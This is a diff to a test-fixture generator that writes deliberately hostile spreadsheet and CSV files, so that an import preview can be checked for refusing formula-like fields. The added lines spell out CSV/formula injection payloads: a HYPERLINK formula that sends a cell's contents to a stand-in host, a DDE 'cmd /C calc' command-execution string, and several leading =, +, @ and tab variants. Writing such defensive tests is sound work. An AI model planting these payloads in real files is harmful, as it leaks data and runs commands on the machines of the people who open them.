@@ -8,6 +8,7 @@ Club code LCH-TU-01 is the `club` fixture's; the people match the corpus world i
 from __future__ import annotations
 
 import codecs
+import csv
 import io
 import sys
 import zipfile
@@ -201,6 +202,29 @@ def hostile_files() -> None:
     )
     (HERE / "bell-in-cell.csv").write_bytes("Họ và tên;Năm sinh;Giới tính\nLò Thị\x07 Lan;1950;Nữ\n".encode())
     (HERE / "text-renamed.xls").write_bytes("Ho va ten\tNam sinh\nLo Thi Lan\t1950\n".encode("ascii"))
+    formula_fields()
+
+
+def _csv(name: str, rows: list[list]) -> None:
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+    (HERE / name).write_bytes(buffer.getvalue().encode())
+
+
+def formula_fields() -> None:
+    """Free text other than a member's name that starts like a formula (issue 15): refused at the preview
+    like a name, with its row and column. A leading = is written as text (openpyxl would write a formula)."""
+    hyperlink = '=HYPERLINK("http://x/?"&A1,"Bấm")'
+    header = ["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Thôn/Tổ dân phố"]
+    hostile.write_raw_xlsx(
+        HERE / "clubs-village-formula.xlsx",
+        hostile.sheet_xml(hostile.member_rows(rows=[header, ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", hyperlink]]), "A1:E2"),
+    )  # fmt: skip
+    _csv("clubs-decision-formula.csv", [[*CLUBS[:4], "Số quyết định"], ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", "+1"]])  # fmt: skip
+    _csv("members-village-formula.csv", [[*MEMBERS[:3], "Thôn/Tổ dân phố"], ["Lò Thị Lan", 1950, "Nữ", "@SUM(A1)"]])  # fmt: skip
+    _csv("members-name-behind-a-tab.csv", [MEMBERS[:3], ["\t=1+1", 1950, "Nữ"]])
+    write_xlsx(HERE / "loans-purpose-formula.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "5.000.000", 12, "-2+3+cmd|' /C calc'!A0", ""]])  # fmt: skip
+    _csv("contributions-note-formula.csv", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ tăng thu nhập", "01/03/2024", "500.000", "Thành viên", hyperlink]])  # fmt: skip
 
 
 if __name__ == "__main__":
